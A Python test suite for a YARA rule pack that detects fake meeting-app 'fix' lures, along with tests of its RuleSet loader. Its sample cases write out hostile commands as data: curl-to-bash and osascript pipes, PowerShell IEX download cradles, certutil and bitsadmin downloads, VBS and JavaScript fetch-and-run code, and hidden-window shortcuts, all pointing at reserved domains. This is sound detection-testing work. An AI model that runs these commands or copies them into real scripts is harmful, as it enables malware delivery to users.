"""The YARA rule pack and the RuleSet layer.

Part 1 lints the pack: every file compiles alone and with the rest, without warnings; names, meta and
conditions follow the house style. Part 2 is data: each rule has samples that must fire and benign
look-alikes that must not (built here, reserved domains only). Part 3 tests RuleSet itself.
"""

from __future__ import annotations

import io
import mmap
import re
import sys
import time
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from datetime import date
from pathlib import Path

import pylnk3
import pytest
import yara

from agent.analysis.errors import RulesError, RulesTimeout
from agent.analysis.yara_scan import EXTERNAL_DEFAULTS, RuleSet
from agent.rules_default import default_rules_dir

RULES_DIR = default_rules_dir()
RULE_FILES = sorted(RULES_DIR.rglob("*.yar"))
REL = [p.relative_to(RULES_DIR).as_posix() for p in RULE_FILES]

CATEGORIES = ("MAL", "SUSP", "HKTL", "PUA", "EXPL", "VULN", "WEBSHELL")
MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
NAME_RE = re.compile(rf"^({'|'.join(CATEGORIES)})(_[A-Z][A-Za-z0-9]*){{2,}}_({'|'.join(MONTHS)})\d\d$")
ATTACK_RE = re.compile(r"^T\d{4}(\.\d{3})?$")


@pytest.fixture(scope="module")
def ruleset() -> RuleSet:
    return RuleSet.compile(RULES_DIR)


def _compiled_rules(path: Path) -> list[yara.Rule]:
    return list(yara.compile(filepath=str(path), externals=dict(EXTERNAL_DEFAULTS), error_on_warning=True))


def _conditions(text: str) -> list[str]:
    """The condition section of each rule in a rule file (up to the rule's closing brace)."""
    return re.findall(r"condition:(.*?)\n\}", text, flags=re.DOTALL)


# ---------------------------------------------------------------------------------------------- linter


def test_pack_is_not_empty() -> None:
    assert len(RULE_FILES) >= 8, RULES_DIR


@pytest.mark.parametrize("path", RULE_FILES, ids=REL)
def test_rule_file_compiles_alone_without_warnings(path: Path) -> None:
    # error_on_warning turns "may slow down scanning" and friends into failures.
    assert _compiled_rules(path)


def test_whole_pack_compiles_together_without_warnings() -> None:
    rules = yara.compile(
        filepaths={rel: str(p) for rel, p in zip(REL, RULE_FILES, strict=True)},
        externals=dict(EXTERNAL_DEFAULTS),
        error_on_warning=True,
    )
    assert len(list(rules)) >= 20


@pytest.mark.parametrize("path", RULE_FILES, ids=REL)
def test_rule_names_and_meta_follow_the_style_guide(path: Path) -> None:
    for rule in _compiled_rules(path):
        name, meta = rule.identifier, rule.meta
        assert NAME_RE.match(name), f"{name}: want CATEGORY_Subject_Detail_MonYY"
        for key in ("description", "author", "date", "reference", "score", "attack"):
            assert key in meta, f"{name}: meta {key} missing"
        assert isinstance(meta["description"], str) and len(meta["description"]) >= 20, name
        assert meta["author"] == "Lureguard", name
        assert isinstance(meta["reference"], str) and meta["reference"].startswith("https://"), name
        created = date.fromisoformat(meta["date"])
        assert name.endswith(f"_{MONTHS[created.month - 1]}{created.year % 100:02d}"), f"{name}: date {created}"
        score = meta["score"]
        assert isinstance(score, int) and not isinstance(score, bool) and 0 <= score <= 100, name
        # The category is the verdict hint: MAL alone makes a file malicious (>= 70), SUSP suspicious.
        if name.startswith("MAL_"):
            assert score >= 70, name
        if name.startswith("SUSP_"):
            assert 30 <= score < 70, name
        assert isinstance(meta["attack"], str) and ATTACK_RE.match(meta["attack"]), name


@pytest.mark.parametrize("path", RULE_FILES, ids=REL)
def test_conditions_suit_fast_mode_and_follow_magic_filesize_strings_order(path: Path) -> None:
    text = path.read_text("utf-8")
    # Modules differ between yara-python 4.5 and Debian's yara 4.2 CLI (no pe.is_signed): the pack uses none.
    assert not re.search(r"^\s*import\b", text, flags=re.MULTILINE)
    conditions = _conditions(text)
    assert len(conditions) == len(_compiled_rules(path))
    for cond in conditions:
        # RuleSet.match scans in fast mode (first occurrence only): counts and offsets would lie.
        assert not re.search(r"[#@!]\w*", cond.replace("!=", "")), cond
        assert not re.search(r"\$\w*\s+(at|in)\b", cond), cond
        magic = cond.find("uint")
        size = cond.find("filesize")
        strings = cond.find("$")
        if magic >= 0 and size >= 0:
            assert magic < size, cond
        if size >= 0 and strings >= 0:
            assert size < strings, cond


# ------------------------------------------------------------------------------------------- samples


def _lnk(target: str, arguments: str, *, window: str | None = None, icon: str | None = None) -> bytes:
    link = pylnk3.for_file(target, arguments=arguments, icon_file=icon, window_mode=window)
    out = io.BytesIO()
    link.write(out)
    return out.getvalue()


def _fasduas(*literals: str, events: bytes = b"sysoexec") -> bytes:
    """A minimal stand-in for a compiled AppleScript: the FasdUAS header, an event code, UTF-16BE text."""
    body = b"".join(b"utxt" + len(s).to_bytes(4, "big") + s.encode("utf-16-be") for s in literals)
    return b"FasdUAS 1.101.10\x0e\x00\x00\x00\x04\x0f\xff\xff" + events + body + b"\x00" * 32


PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
CMD = r"C:\Windows\System32\cmd.exe"
ZOOM_ICON = r"C:\Program Files\Zoom\bin\Zoom.exe"
DECOY = 'open location "https://support.zoom.example/sdk"\n'


@dataclass(frozen=True)
class Case:
    rule: str
    fires: bool
    data: bytes | Callable[[], bytes]
    why: str
    externals: Mapping[str, str | bool | int] | None = None


CASES: list[Case] = [
    # --- AppleScript -------------------------------------------------------------------------------
    Case(
        "MAL_AppleScript_DoShellScript_Curl_Pipe_Nov26",
        True,
        b'do shell script "curl -fsSL https://sdk.zoom.invalid/fix | osascript"',
        "GhostCall shape: curl piped into osascript",
    ),
    Case(
        "MAL_AppleScript_DoShellScript_Curl_Pipe_Nov26",
        True,
        b'do shell script "curl -s " & u & " | /bin/bash"',
        "concatenated URL, piped into bash by full path",
    ),
    Case(
        "MAL_AppleScript_DoShellScript_Curl_Pipe_Nov26",
        False,
        b'do shell script "curl -s https://updates.example/app.zip | shasum -a 256"',
        "piping a download into shasum verifies it, it runs nothing",
    ),
    Case(
        "SUSP_AppleScript_DoShellScript_Curl_Nov26",
        True,
        b'do shell script "curl -o /tmp/u.zip https://zoom-sdk.invalid/u.zip"',
        "downloads from an AppleScript",
    ),
    Case(
        "SUSP_AppleScript_DoShellScript_Curl_Nov26",
        False,
        b'do shell script "ls -la ~/Desktop"\ndisplay notification "done"',
        "ordinary automation: a shell command that downloads nothing",
    ),
    Case(
        "SUSP_AppleScript_RunScript_Remote_Nov26",
        True,
        b'set p to do shell script "curl -s https://x.invalid/p"\nrun script p',
        "evaluates text it just downloaded",
    ),
    Case(
        "SUSP_AppleScript_RunScript_Remote_Nov26",
        False,
        b'run script file ((path to desktop as text) & "helper.scpt")',
        "runs a local script file; no download, no shell",
    ),
    Case(
        "SUSP_AppleScript_Fake_Password_Prompt_Nov26",
        True,
        b'display dialog "Zoom needs your password to update audio" default answer "" with hidden answer',
        "fake password prompt used to harvest the login password",
    ),
    Case(
        "SUSP_AppleScript_Fake_Password_Prompt_Nov26",
        False,
        b'display dialog "Backup finished" buttons {"OK"} default button 1',
        "a plain dialog without a hidden field",
    ),
    Case(
        "SUSP_AppleScript_Blank_Padding_Nov26",
        True,
        lambda: DECOY.encode() + b"\n" * 12_000 + b'do shell script "curl -s https://x.invalid | sh"',
        "the lure: decoy, >10,000 blank lines, then the payload",
    ),
    Case(
        "SUSP_AppleScript_Blank_Padding_Nov26",
        True,
        lambda: DECOY.encode() + b"\r" * 12_000 + b"run script x",
        "classic Mac line endings (CR) as padding",
    ),
    Case(
        "SUSP_AppleScript_Blank_Padding_Nov26",
        False,
        lambda: DECOY.encode() + b"\n" * 40 + b'do shell script "curl -s https://x.invalid -o /tmp/a"',
        "a few dozen blank lines are normal formatting",
    ),
    Case(
        "SUSP_AppleScript_Blank_Padding_Nov26",
        False,
        lambda: b"log line\n" + b"\n" * 5_000 + b"end of log\n",
        "a padded text file that runs nothing",
    ),
    Case(
        "MAL_AppleScript_Compiled_Shell_Download_Nov26",
        True,
        lambda: _fasduas("curl -fsSL https://zoom.invalid/sdk | osascript"),
        "compiled .scpt whose do shell script downloads",
    ),
    Case(
        "MAL_AppleScript_Compiled_Shell_Download_Nov26",
        False,
        lambda: _fasduas("ls -la /Applications"),
        "compiled .scpt running a harmless shell command",
    ),
    Case(
        "MAL_AppleScript_Compiled_Shell_Download_Nov26",
        False,
        lambda: b"MZ" + _fasduas("curl -s https://x.invalid")[2:],
        "the same strings without the FasdUAS magic are not a compiled script",
    ),
    # --- shell ---------------------------------------------------------------------------------------
    Case(
        "SUSP_Shell_Curl_Pipe_Shell_Nov26",
        True,
        b"#!/bin/sh\ncurl -fsSL https://zoom-fix.invalid/install.sh | bash\n",
        "the classic curl | bash fix",
    ),
    Case(
        "SUSP_Shell_Curl_Pipe_Shell_Nov26",
        True,
        b"wget -qO- https://x.invalid/a | sudo sh\n",
        "wget to stdout, piped into sudo sh",
    ),
    Case(
        "SUSP_Shell_Curl_Pipe_Shell_Nov26",
        False,
        b"#!/bin/sh\n# Install Zoom for Linux\ncurl -fsSLo zoom_amd64.deb https://zoom.example/zoom_amd64.deb\n"
        b"sudo apt install ./zoom_amd64.deb\n",
        "a normal install script that mentions zoom and downloads a package, but pipes nothing into a shell",
    ),
    Case(
        "SUSP_Shell_Curl_Pipe_Shell_Nov26",
        False,
        b"curl -s https://x.example/app.tgz | shasum -a 256\n",
        "| shasum is not | sh",
    ),
    Case(
        "SUSP_Shell_Chmod_Exec_Hidden_Tmp_Nov26",
        True,
        b"curl -so /tmp/.zoomhelper https://x.invalid/h\nchmod +x /tmp/.zoomhelper\n/tmp/.zoomhelper &\n",
        "hidden executable dropped in /tmp",
    ),
    Case(
        "SUSP_Shell_Chmod_Exec_Hidden_Tmp_Nov26",
        True,
        b"chmod 755 '/private/tmp/.x'\n",
        "octal mode, macOS /private/tmp path, quoted",
    ),
    Case(
        "SUSP_Shell_Chmod_Exec_Hidden_Tmp_Nov26",
        False,
        b"chmod +x /tmp/install.sh\n/tmp/install.sh\n",
        "an executable in /tmp that is not hidden",
    ),
    Case(
        "SUSP_Shell_Chmod_Exec_Hidden_Tmp_Nov26",
        False,
        b"chmod 644 /tmp/.cache-info\n",
        "a hidden file made readable, not executable",
    ),
    Case(
        "SUSP_Shell_LaunchAgent_Install_Nov26",
        True,
        b"cp agent.plist ~/Library/LaunchAgents/com.zoom.helper.plist\n"
        b"launchctl load -w ~/Library/LaunchAgents/com.zoom.helper.plist\n",
        "installs and loads a LaunchAgent",
    ),
    Case(
        "SUSP_Shell_LaunchAgent_Install_Nov26",
        False,
        b"launchctl unload ~/Library/LaunchAgents/com.example.agent.plist\n"
        b"rm -f ~/Library/LaunchAgents/com.example.agent.plist\n",
        "an uninstaller unloads and removes: the opposite of persistence",
    ),
    Case(
        "SUSP_Shell_Quarantine_Removal_Nov26",
        True,
        b"xattr -dr com.apple.quarantine /Applications/zoom.us.app\n",
        "strips Gatekeeper's quarantine flag",
    ),
    Case(
        "SUSP_Shell_Quarantine_Removal_Nov26",
        False,
        b"xattr -p com.apple.quarantine ~/Downloads/report.pdf\n",
        "only prints the attribute",
    ),
    # --- PowerShell ----------------------------------------------------------------------------------
    Case(
        "SUSP_PS_IEX_Download_Cradle_Nov26",
        True,
        b"IEX (New-Object Net.WebClient).DownloadString('https://teams-update.invalid/a.ps1')",
        "the textbook download cradle",
    ),
    Case(
        "SUSP_PS_IEX_Download_Cradle_Nov26",
        True,
        "irm https://x.invalid/p | iex".encode("utf-16-le"),
        "short aliases, in a UTF-16LE file as PowerShell ISE saves them",
    ),
    Case(
        "SUSP_PS_IEX_Download_Cradle_Nov26",
        False,
        b"Invoke-WebRequest -Uri https://data.example/report.csv -OutFile report.csv\n"
        b"Import-Csv report.csv | Where-Object { $_.Index -gt 3 }\n",
        "downloads a CSV and parses it; nothing is executed ('Index' is not 'iex')",
    ),
    Case(
        "SUSP_PS_IEX_Download_Cradle_Nov26",
        False,
        b"KEYWORDS = ('gci', 'iex', 'iwr', 'irm', 'Invoke-WebRequest', 'Invoke-Expression')\n",
        "a syntax highlighter's alias table names both words but runs nothing",
    ),
    Case(
        "SUSP_PS_IEX_Download_Cradle_Nov26",
        True,
        b"$u='https://x.invalid/a';iex(iwr $u -UseBasicParsing)",
        "IEX wrapping Invoke-WebRequest",
    ),
    Case(
        "SUSP_PS_EncodedCommand_Nov26",
        True,
        b"powershell.exe -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=\n",
        "Base64-encoded command line",
    ),
    Case(
        "SUSP_PS_EncodedCommand_Nov26",
        False,
        b"Get-Content in.txt | Out-File out.txt -Encoding UTF8\n# run with powershell -File convert.ps1\n",
        "-Encoding is a different parameter",
    ),
    Case(
        "SUSP_PS_EncodedCommand_Nov26",
        False,
        b"Run powershell -e <command> to pass an encoded command; see the docs.\n",
        "documentation names the flag but carries no Base64 blob",
    ),
    Case(
        "SUSP_PS_Hidden_Window_Download_Nov26",
        True,
        b"powershell -w hidden -c \"(New-Object Net.WebClient).DownloadFile('https://x.invalid/z.exe','z.exe')\"",
        "hidden window plus download",
    ),
    Case(
        "SUSP_PS_Hidden_Window_Download_Nov26",
        False,
        b"powershell -WindowStyle Hidden -File C:\\Scripts\\backup.ps1\n",
        "a hidden scheduled backup that downloads nothing",
    ),
    # --- VBScript ------------------------------------------------------------------------------------
    Case(
        "MAL_VBS_Shell_Run_HTTP_Download_Nov26",
        True,
        b'Set h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "https://x.invalid/n.js", False\nh.Send\n'
        b'Set s = CreateObject("WScript.Shell")\ns.Run "node n.js", 0\n',
        "wscript update.vbs -> node: fetch then run",
    ),
    Case(
        "MAL_VBS_Shell_Run_HTTP_Download_Nov26",
        False,
        b'Set s = CreateObject("WScript.Shell")\nSet l = s.CreateShortcut("Zoom.lnk")\ns.Run "notepad.exe"\n',
        "runs a local program; no HTTP",
    ),
    Case(
        "SUSP_VBS_ADODB_Stream_Dropper_Nov26",
        True,
        b'Set h = CreateObject("MSXML2.ServerXMLHTTP")\nh.Open "GET", u, False: h.Send\n'
        b'Set st = CreateObject("ADODB.Stream")\nst.Type = 1: st.Open: st.Write h.responseBody\n'
        b'st.SaveToFile "C:\\Users\\Public\\a.exe", 2\n',
        "download written to disk",
    ),
    Case(
        "SUSP_VBS_ADODB_Stream_Dropper_Nov26",
        False,
        b'Set st = CreateObject("ADODB.Stream")\nst.LoadFromFile "in.txt"\nst.Charset = "utf-8"\n'
        b'st.SaveToFile "out.txt", 2\n',
        "re-encodes a local text file",
    ),
    # --- batch ---------------------------------------------------------------------------------------
    Case(
        "SUSP_BAT_PowerShell_Hidden_Nov26",
        True,
        b'@echo off\r\npowershell -w hidden -c "iwr https://x.invalid/u.ps1 -o u.ps1"\r\n',
        "batch fix launching hidden PowerShell",
    ),
    Case(
        "SUSP_BAT_PowerShell_Hidden_Nov26",
        True,
        b"powershell -windowstyle hidden -File upd.ps1\r\n",
        "no @echo off, but the extension says batch",
        {"extension": "cmd"},
    ),
    Case(
        "SUSP_BAT_PowerShell_Hidden_Nov26",
        False,
        b"@echo off\r\npowershell -NoProfile -File build.ps1\r\n",
        "a build script with a visible PowerShell",
    ),
    Case(
        "SUSP_BAT_PowerShell_Hidden_Nov26",
        False,
        b"powershell -windowstyle hidden -File upd.ps1\r\n",
        "same text in a .txt note is not a batch file",
        {"extension": "txt"},
    ),
    Case(
        "MAL_BAT_Certutil_Urlcache_Nov26",
        True,
        b"certutil -urlcache -split -f https://x.invalid/z.exe %TEMP%\\z.exe\r\n",
        "certutil used as a downloader",
    ),
    Case(
        "MAL_BAT_Certutil_Urlcache_Nov26",
        False,
        b"certutil -hashfile ZoomInstaller.exe SHA256\r\n",
        "certutil computing a hash, as admins do",
    ),
    Case(
        "SUSP_BAT_Bitsadmin_Transfer_Nov26",
        True,
        b"bitsadmin /transfer job /download /priority high https://x.invalid/a.exe C:\\a.exe\r\n",
        "BITS used as a downloader",
    ),
    Case("SUSP_BAT_Bitsadmin_Transfer_Nov26", False, b"bitsadmin /list /allusers\r\n", "listing BITS jobs"),
    # --- JavaScript ----------------------------------------------------------------------------------
    Case(
        "SUSP_JS_ChildProcess_Remote_Fetch_Nov26",
        True,
        b"const { exec } = require('child_process');\nhttps.get('https://x.invalid/p', r => {\n"
        b"  r.on('data', d => exec(d.toString()));\n});\n",
        "runs commands received from the network",
    ),
    Case(
        "SUSP_JS_ChildProcess_Remote_Fetch_Nov26",
        False,
        b"const { execSync } = require('child_process');\nexecSync('npm run build', { stdio: 'inherit' });\n",
        "a build script without network access",
    ),
    Case(
        "MAL_JS_Remote_Code_Eval_Nov26",
        True,
        b"axios.get('https://api.invalid/v1/config').then(r => eval(r.data));\n",
        "BeaverTail shape: fetch then eval",
    ),
    Case(
        "MAL_JS_Remote_Code_Eval_Nov26",
        False,
        b"fetch('https://api.example/data').then(r => r.json()).then(show);\n// eval() is banned by lint\n",
        "fetches JSON; the eval mention is in another statement",
    ),
    # --- shortcuts -----------------------------------------------------------------------------------
    Case(
        "MAL_LNK_PowerShell_Hidden_Cradle_Nov26",
        True,
        lambda: _lnk(
            PS,
            "-w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('https://zoom.invalid/a')\"",
            icon=ZOOM_ICON,
        ),
        "Zoom-iconed shortcut with a hidden PowerShell cradle",
    ),
    Case(
        "MAL_LNK_PowerShell_Hidden_Cradle_Nov26",
        True,
        lambda: _lnk(PS, "-c iwr https://x.invalid/a -OutFile $env:TEMP\\a.exe", window=pylnk3.WINDOW_MINIMIZED),
        "no 'hidden' word, but ShowCommand 7 keeps the window away",
    ),
    Case(
        "MAL_LNK_PowerShell_Hidden_Cradle_Nov26",
        False,
        lambda: _lnk(PS, "-NoExit -Command Set-Location C:\\Projects"),
        "a developer's PowerShell shortcut",
    ),
    Case(
        "MAL_LNK_Cmd_Hidden_Download_Nov26",
        True,
        lambda: _lnk(
            CMD, "/c start /min curl -so %TEMP%\\u.exe https://x.invalid/u.exe && %TEMP%\\u.exe", icon=ZOOM_ICON
        ),
        "cmd shortcut downloading with a minimized window",
    ),
    Case(
        "MAL_LNK_Cmd_Hidden_Download_Nov26",
        False,
        lambda: _lnk(CMD, "/k cd /d C:\\Projects"),
        "a developer's cmd shortcut",
    ),
    # --- look-alike hosts ----------------------------------------------------------------------------
    Case(
        "SUSP_Lookalike_Zoom_Host_Nov26",
        True,
        b"Join: https://us05web-zoom.invalid/j/8812345678?pwd=abc",
        "us05web label on another domain",
    ),
    Case("SUSP_Lookalike_Zoom_Host_Nov26", True, b"https://web071zoom.invalid/update", "web0NNzoom look-alike"),
    Case(
        "SUSP_Lookalike_Zoom_Host_Nov26",
        True,
        b"https://zoom.us-join.invalid/sdk",
        "zoom.us followed by another registrable domain",
    ),
    Case(
        "SUSP_Lookalike_Zoom_Host_Nov26",
        False,
        b"Join Zoom Meeting https://us05web.zoom.us/j/8812345678?pwd=abc\nDownload at https://zoom.us/download.",
        "a genuine invitation",
    ),
    Case(
        "SUSP_Lookalike_Teams_Meet_Host_Nov26",
        True,
        b"https://meet.google.us-join.invalid/abc-defg-hij",
        "meet.google on another domain",
    ),
    Case("SUSP_Lookalike_Teams_Meet_Host_Nov26", True, b"https://googIedrivers.invalid/camera-fix", "capital I for l"),
    Case(
        "SUSP_Lookalike_Teams_Meet_Host_Nov26",
        True,
        b"https://teams-install.invalid/MSTeamsSetup.exe",
        "teams-install host",
    ),
    Case(
        "SUSP_Lookalike_Teams_Meet_Host_Nov26",
        False,
        b"https://meet.google.com/abc-defg-hij\nhttps://teams.microsoft.com/l/meetup-join/19%3ameeting\n"
        b"https://www.google.com/",
        "genuine Meet, Teams and Google links",
    ),
    # --- externals -----------------------------------------------------------------------------------
    Case(
        "SUSP_Brand_Claim_Script_Downloader_Nov26",
        True,
        b"curl -o /tmp/z https://x.invalid/z",
        "script claiming Zoom that downloads",
        {"claimed_brand": "zoom", "filetype": "script:shell"},
    ),
    Case(
        "SUSP_Brand_Claim_Script_Downloader_Nov26",
        False,
        b"curl -o /tmp/z https://x.invalid/z",
        "the same script claiming no brand",
        {"claimed_brand": "", "filetype": "script:shell"},
    ),
    Case(
        "SUSP_Brand_Claim_Script_Downloader_Nov26",
        False,
        b"curl -o /tmp/z https://x.invalid/z",
        "a validly signed script: the vendor check is elsewhere",
        {
            "claimed_brand": "zoom",
            "filetype": "script:powershell",
            "signature_valid": True,
            "signature_status": "valid",
        },
    ),
    Case("SUSP_Filename_Double_Extension_Nov26", True, b"MZ", "invoice.pdf.exe", {"filename": "Invoice.PDF.exe"}),
    Case(
        "SUSP_Filename_Double_Extension_Nov26",
        True,
        b"L\x00\x00\x00",
        "a shortcut posing as a video",
        {"filename": "interview_recording.mp4 .lnk"},
    ),
    Case(
        "SUSP_Filename_Double_Extension_Nov26",
        False,
        b"MZ",
        "a normal installer name",
        {"filename": "ZoomInstallerFull.exe"},
    ),
    Case(
        "SUSP_Filename_Double_Extension_Nov26",
        False,
        b"\x1f\x8b",
        "a compressed tarball has two extensions legitimately",
        {"filename": "data.tar.gz"},
    ),
]


def _data(case: Case) -> bytes:
    return case.data() if callable(case.data) else case.data


@pytest.mark.parametrize(
    "case", CASES, ids=[f"{c.rule}-{'fires' if c.fires else 'quiet'}-{i}" for i, c in enumerate(CASES)]
)
def test_rule_case(ruleset: RuleSet, case: Case) -> None:
    hits = {h.rule for h in ruleset.match(_data(case), case.externals or {}, timeout_s=10)}
    assert (case.rule in hits) is case.fires, f"{case.why}; hits: {sorted(hits)}"


def test_every_rule_has_a_firing_and_a_quiet_case(ruleset: RuleSet) -> None:
    names = {r.identifier for p in RULE_FILES for r in _compiled_rules(p)}
    assert names == {c.rule for c in CASES if c.fires}
    assert names == {c.rule for c in CASES if not c.fires}


def test_no_malicious_rule_fires_on_real_benign_files(ruleset: RuleSet) -> None:
    # The Python standard library and the system's own programs are full of shell, PowerShell-like and
    # download code in comments, docs and tests; a MAL_ rule firing there is a false positive.
    roots = [Path(sys.base_prefix) / "lib" / f"python{sys.version_info[0]}.{sys.version_info[1]}", Path("/usr/bin")]
    seen, bad = 0, []
    for root in roots:
        for path in sorted(root.rglob("*"))[:3000]:
            if not path.is_file() or path.is_symlink() or path.stat().st_size > 4_000_000:
                continue
            seen += 1
            for hit in ruleset.match(path.read_bytes(), {"filename": path.name}, timeout_s=10):
                if hit.rule.startswith("MAL_"):
                    bad.append(f"{path}: {hit.rule}")
    assert seen > 500
    assert not bad, bad


# ------------------------------------------------------------------------------------------- RuleSet


def _write(root: Path, files: Mapping[str, str]) -> Path:
    for rel, text in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, "utf-8")
    return root


SIMPLE = {
    "a/one.yar": 'rule SUSP_Test_One_Nov26 { meta: score = 40 strings: $a = "lure-one" condition: $a }\n',
    "b/two.yar": 'rule SUSP_Test_Two_Nov26 { strings: $a = "lure-two" condition: $a }\n',
}


def test_hits_carry_namespace_and_meta(ruleset: RuleSet) -> None:
    hits = ruleset.match(b"certutil -urlcache -f https://x.invalid/a a.exe", {}, timeout_s=5)
    hit = next(h for h in hits if h.rule == "MAL_BAT_Certutil_Urlcache_Nov26")
    assert hit.namespace == "bat/downloaders.yar"
    assert hit.meta["score"] == 75 and hit.meta["attack"] == "T1105"
    assert hit.to_json()["meta"]["description"]


def test_same_rule_name_in_two_files_is_allowed(tmp_path: Path) -> None:
    # Namespaces are file paths, so two themes can each have their own rule of the same name.
    rule = 'rule SUSP_Same_Name_Nov26 { strings: $a = "twin" condition: $a }\n'
    rs = RuleSet.compile(_write(tmp_path, {"x/a.yar": rule, "y/a.yar": rule}))
    assert sorted(h.namespace for h in rs.match(b"twin", {}, timeout_s=5)) == ["x/a.yar", "y/a.yar"]


def test_save_load_round_trip_gives_same_matches_and_version(ruleset: RuleSet, tmp_path: Path) -> None:
    target = tmp_path / "cache" / "rules.bin"
    ruleset.save(target)
    loaded = RuleSet.load(target)
    assert loaded.version == ruleset.version
    sample = b"@echo off\r\ncertutil -urlcache -f https://x.invalid/a a.exe\r\npowershell -w hidden -c x\r\n"
    assert ruleset.match(sample, {}, timeout_s=5) == loaded.match(sample, {}, timeout_s=5)
    assert len(loaded.match(sample, {}, timeout_s=5)) >= 2
    assert not list(target.parent.glob("*.tmp"))  # the atomic write cleaned up


def test_load_rejects_foreign_and_corrupt_files(ruleset: RuleSet, tmp_path: Path) -> None:
    foreign = tmp_path / "foreign.bin"
    foreign.write_bytes(b"not a rule set")
    with pytest.raises(RulesError, match="not a saved"):
        RuleSet.load(foreign)
    good = tmp_path / "good.bin"
    ruleset.save(good)
    raw = good.read_bytes()
    corrupt = tmp_path / "corrupt.bin"
    corrupt.write_bytes(raw[: raw.index(b"\n", 30) + 1] + b"garbage")  # header intact, YARA part broken
    with pytest.raises(RulesError, match="cannot load"):
        RuleSet.load(corrupt)
    with pytest.raises(RulesError, match="cannot read"):
        RuleSet.load(tmp_path / "missing.bin")


def test_version_is_stable_and_changes_with_content_or_path(tmp_path: Path) -> None:
    base = RuleSet.compile(_write(tmp_path / "v1", SIMPLE)).version
    assert RuleSet.compile(_write(tmp_path / "v1b", SIMPLE)).version == base  # where the dir lives: no matter
    edited = dict(SIMPLE, **{"b/two.yar": SIMPLE["b/two.yar"].replace("lure-two", "lure-2")})
    assert RuleSet.compile(_write(tmp_path / "v2", edited)).version != base
    moved = {"a/one.yar": SIMPLE["a/one.yar"], "c/two.yar": SIMPLE["b/two.yar"]}
    assert RuleSet.compile(_write(tmp_path / "v3", moved)).version != base


def test_syntax_error_names_file_and_line(tmp_path: Path) -> None:
    bad = 'rule SUSP_Bad_Rule_Nov26 {\n  strings:\n    $a = "lure-bad"\n  condition:\n    $b }\n'
    root = _write(tmp_path, {**SIMPLE, "sub/bad.yar": bad})
    with pytest.raises(RulesError) as err:
        RuleSet.compile(root)
    assert err.value.file == "sub/bad.yar" and err.value.line == 5
    assert str(err.value).startswith("sub/bad.yar:5:") and "$b" in str(err.value)


def test_slow_rule_warning_is_an_error(tmp_path: Path) -> None:
    slow = "rule SUSP_Slow_Rule_Nov26 {\n  strings:\n    $a = /a.*b/\n  condition:\n    $a\n}\n"
    with pytest.raises(RulesError, match="slow down scanning") as err:
        RuleSet.compile(_write(tmp_path, {"slow.yar": slow}))
    assert err.value.file == "slow.yar" and err.value.line == 3


def test_empty_or_missing_rules_dir_is_an_error(tmp_path: Path) -> None:
    with pytest.raises(RulesError, match=r"no \.yar files"):
        RuleSet.compile(tmp_path)
    with pytest.raises(RulesError, match="does not exist"):
        RuleSet.compile(tmp_path / "nope")


def test_includes_are_refused(tmp_path: Path) -> None:
    # An include would pull in bytes the version hash does not cover.
    _write(tmp_path / "outside", {"x.yar": "rule SUSP_X_Y_Nov26 { condition: true }\n"})
    root = _write(tmp_path / "rules", {"a.yar": 'include "../outside/x.yar"\n'})
    with pytest.raises(RulesError):
        RuleSet.compile(root)


def test_externals_are_visible_and_do_not_leak_between_matches(tmp_path: Path) -> None:
    rule = (
        'rule SUSP_Ext_Brand_Nov26 { condition: claimed_brand == "zoom" and not signature_valid '
        'and signature_status == "untrusted_root" and is_member }\n'
    )
    rs = RuleSet.compile(_write(tmp_path, {"ext.yar": rule}))
    ext: dict[str, str | bool | int] = {
        "claimed_brand": "zoom",
        "signature_status": "untrusted_root",
        "is_member": True,
    }
    assert [h.rule for h in rs.match(b"x", ext, timeout_s=5)] == ["SUSP_Ext_Brand_Nov26"]
    # YARA stores external values on the rules object; the next call must start from the defaults.
    assert rs.match(b"x", {"signature_status": "untrusted_root", "is_member": True}, timeout_s=5) == []
    assert rs.match(b"x", {**ext, "signature_valid": True}, timeout_s=5) == []


def test_unknown_or_mistyped_externals_are_programming_errors(ruleset: RuleSet) -> None:
    with pytest.raises(ValueError, match="unknown"):
        ruleset.match(b"x", {"brand": "zoom"}, timeout_s=5)
    with pytest.raises(TypeError, match="bool"):
        ruleset.match(b"x", {"is_member": "yes"}, timeout_s=5)


def test_timeout_raises_rules_timeout(tmp_path: Path) -> None:
    # A condition loop over every byte of 64 MB takes several seconds; the 1 s budget must cut it.
    slow = "rule SUSP_Loop_Every_Byte_Nov26 { condition: for all i in (0..filesize - 1) : (uint8(i) == 0) }\n"
    rs = RuleSet.compile(_write(tmp_path, {"loop.yar": slow}))
    started = time.monotonic()
    with pytest.raises(RulesTimeout):
        rs.match(bytes(64 * 1024 * 1024), {}, timeout_s=1)
    assert time.monotonic() - started < 3


def test_default_rules_dir_is_the_checkout_pack() -> None:
    assert RULES_DIR.name == "yara_rules" and RULE_FILES


def test_memory_mapped_buffers_match_like_bytes(ruleset: RuleSet, tmp_path: Path) -> None:
    # The engine hands large files over as read-only mmaps (context.Buffer); YARA must see the same bytes.
    sample = b"@echo off\r\n" + bytes(3 * 1024 * 1024) + b"certutil -urlcache -f https://x.invalid/a a.exe\r\n"
    path = tmp_path / "big.bat"
    path.write_bytes(sample)
    with path.open("rb") as f, mmap.mmap(f.fileno(), 0, access=mmap.ACCESS_READ) as mapped:
        hits = ruleset.match(mapped, {"extension": "bat"}, timeout_s=5)
    assert hits == ruleset.match(sample, {"extension": "bat"}, timeout_s=5)
    assert "MAL_BAT_Certutil_Urlcache_Nov26" in {h.rule for h in hits}
